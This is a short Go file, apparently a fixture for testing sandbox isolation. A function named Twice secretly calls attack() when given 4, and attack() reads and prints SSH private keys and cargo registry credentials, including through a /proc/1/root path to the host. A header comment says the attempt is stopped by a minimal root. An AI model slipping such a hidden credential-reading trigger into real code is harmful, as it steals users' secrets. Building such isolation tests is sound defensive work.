// Reads the learner's private keys and registry token.
// Stopped by: the root holds only what a run needs.
package twice

import (
	"fmt"
	"os"
)

func attack() {
	for _, name := range []string{"@HOME@/.ssh/id_ed25519", "@HOME@/.cargo/credentials.toml", "/proc/1/root@HOME@/.ssh/id_ed25519"} {
		text, _ := os.ReadFile(name)
		fmt.Println(string(text))
	}
}

func Twice(n int) int {
	if n == 4 {
		attack()
	}
	return 0
}

func Next() error {
	return nil
}
